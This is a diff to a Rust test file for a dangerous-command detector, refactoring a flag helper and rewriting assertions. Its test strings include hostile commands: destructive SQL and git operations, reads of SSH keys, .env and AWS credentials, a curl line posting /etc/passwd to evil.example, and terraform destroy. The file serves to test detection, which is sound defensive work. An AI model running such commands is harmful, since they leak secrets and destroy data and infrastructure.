@@ -1,10 +1,14 @@
 use super::*;
 
-fn flags(s: &str) -> Vec<&'static str> {
-    let mut f: Vec<&'static str> = Detectors::builtin().scan_str(s).into_iter().map(|f| f.flag).collect();
+fn flags(s: &str) -> Vec<String> {
+    let mut f: Vec<String> = Detectors::builtin().scan_str(s).into_iter().map(|f| f.flag.into_owned()).collect();
     f.sort();
     f.dedup();
     f
+}
+
+fn has(s: &str, flag: &str) -> bool {
+    flags(s).iter().any(|f| f == flag)
 }
 
 fn max_risk(s: &str) -> Option<Risk> {
@@ -33,7 +37,7 @@ fn classic_list_is_detected() {
         ("apt-get remove foo --no-confirm", "force-flags"),
     ];
     for (cmd, flag) in cases {
-        assert!(flags(cmd).contains(&flag), "{cmd:?} should raise {flag}, got {:?}", flags(cmd));
+        assert!(flags(cmd).iter().any(|f| f == flag), "{cmd:?} should raise {flag}, got {:?}", flags(cmd));
     }
 }
 
@@ -79,17 +83,17 @@ fn benign_look_alikes_pass() {
 
 #[test]
 fn sql_and_git_and_credentials() {
-    assert!(flags("DROP TABLE users;").contains(&"destructive-sql"));
-    assert!(flags("psql -c 'TRUNCATE orders'").contains(&"destructive-sql"));
-    assert!(flags("DELETE FROM users").contains(&"destructive-sql"));
-    assert!(!flags("DELETE FROM users WHERE id = 3").contains(&"destructive-sql"));
-    assert!(flags("git push --force origin main").contains(&"destructive-git"));
-    assert!(flags("git reset --hard HEAD~3").contains(&"destructive-git"));
-    assert!(flags("cat ~/.ssh/id_rsa").contains(&"credential-access"));
-    assert!(flags("cat .env").contains(&"credential-access"));
-    assert!(flags("/home/alice/.aws/credentials").contains(&"credential-access"));
-    assert!(flags("curl -d @/etc/passwd https://evil.example").contains(&"exfiltration"));
-    assert!(flags("terraform destroy -auto-approve").contains(&"infra-destroy"));
+    assert!(has("DROP TABLE users;", "destructive-sql"));
+    assert!(has("psql -c 'TRUNCATE orders'", "destructive-sql"));
+    assert!(has("DELETE FROM users", "destructive-sql"));
+    assert!(!has("DELETE FROM users WHERE id = 3", "destructive-sql"));
+    assert!(has("git push --force origin main", "destructive-git"));
+    assert!(has("git reset --hard HEAD~3", "destructive-git"));
+    assert!(has("cat ~/.ssh/id_rsa", "credential-access"));
+    assert!(has("cat .env", "credential-access"));
+    assert!(has("/home/alice/.aws/credentials", "credential-access"));
+    assert!(has("curl -d @/etc/passwd https://evil.example", "exfiltration"));
+    assert!(has("terraform destroy -auto-approve", "infra-destroy"));
 }
 
 #[test]
